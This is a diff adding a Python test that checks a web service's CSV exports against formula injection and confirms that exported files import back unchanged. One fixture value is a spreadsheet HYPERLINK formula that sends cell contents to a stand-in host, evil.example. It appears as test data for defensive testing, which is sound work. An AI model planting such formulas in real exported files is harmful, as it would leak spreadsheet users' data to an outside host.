@@ -183,3 +183,82 @@ async def test_resources_export_import_round_trip_and_scope(api, catalog):
         await api.post("/api/v1/resources.csv", headers={**department(), **CSV}, content=bad.encode()), 422
     )["errors"]
     assert {e["field"] for e in errors} == {"capacity", "availability", "allowed_subdistricts"}
+
+
+# --- CSV formula injection (issue 12, point 8) --------------------------------------------------------
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PLANTED = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+    "plus": "+1",
+    "minus": "-2",
+    "at": "@SUM(A1:A9)",
+    "tab": "\tX",
+    "carriage_return": "\rY",
+}
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _no_formula(text: str) -> list[list[str]]:
+    rows = _cells(text)
+    starting = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert starting == [], starting
+    return rows
+
+
+async def test_planted_formulas_never_reach_an_exported_csv_and_the_file_imports_back_unchanged(api, catalog):
+    admin = district_admin()
+    station = await api.patch(
+        f"/api/v1/stations/{DEMO_STATION_ID}",
+        headers=admin,
+        json={"name": PLANTED["hyperlink"], "address": PLANTED["plus"], "phone": PLANTED["minus"]},
+    )
+    assert station.status_code == 200, station.text
+    member = await api.post(
+        "/api/v1/staff",
+        headers=admin,
+        json={"name": PLANTED["at"], "role": "social_worker", "station_id": DEMO_STATION_ID, "phone": PLANTED["tab"]},
+    )
+    assert member.status_code == 201, member.text
+    resources = (await api.get("/api/v1/resources", headers=admin)).json()["items"]
+    resource = await api.patch(
+        f"/api/v1/resources/{resources[0]['id']}",
+        headers=admin,
+        json={"title": PLANTED["carriage_return"], "description": PLANTED["hyperlink"]},
+    )
+    assert resource.status_code == 200, resource.text
+
+    stations = _no_formula((await api.get("/api/v1/stations.csv")).text)  # public: no token
+    staff = _no_formula((await api.get("/api/v1/staff.csv", headers=admin)).text)
+    exported_resources = await api.get("/api/v1/resources.csv", headers=admin)
+    resource_rows = _no_formula(exported_resources.text)
+    # Each planted value is there, as text a spreadsheet shows and does not run.
+    assert ["'" + PLANTED[key] for key in ("hyperlink", "plus", "minus")] == next(
+        row[3:5] + row[7:8] for row in stations if row[1] == "市新居委会"
+    )
+    assert next(row for row in staff if row[0] == member.json()["id"])[1] == "'" + PLANTED["at"]
+    planted_resource = next(row for row in resource_rows if row[0] == resources[0]["id"])
+    assert (planted_resource[1], planted_resource[6]) == ("'" + PLANTED["carriage_return"], "'" + PLANTED["hyperlink"])
+
+    # Imported back as exported: the apostrophe the export added comes off, nothing changes.
+    for path, text, headers in (
+        ("/api/v1/stations.csv", (await api.get("/api/v1/stations.csv")).text, admin),
+        ("/api/v1/resources.csv", exported_resources.text, admin),
+    ):
+        again = await api.post(path, headers={**headers, **CSV}, content=text.encode())
+        assert again.status_code == 200, again.text
+        assert again.json()["created"] == 0 and again.json()["updated"] == 0, (path, again.json())
+    mine = subdistrict_admin()
+    staff_text = (await api.get("/api/v1/staff.csv", headers=mine)).text
+    again = await api.post("/api/v1/staff.csv", headers={**mine, **CSV}, content=staff_text.encode())
+    assert again.json()["created"] == 0 and again.json()["updated"] == 0, again.text
+    read_back = (await api.get(f"/api/v1/stations/{DEMO_STATION_ID}")).json()
+    assert (read_back["name"], read_back["address"], read_back["phone"]) == (
+        PLANTED["hyperlink"],
+        PLANTED["plus"],
+        PLANTED["minus"],
+    )
+    planted_member = (await api.get(f"/api/v1/staff/{member.json()['id']}", headers=admin)).json()
+    assert (planted_member["name"], planted_member["phone"]) == (PLANTED["at"], PLANTED["tab"])
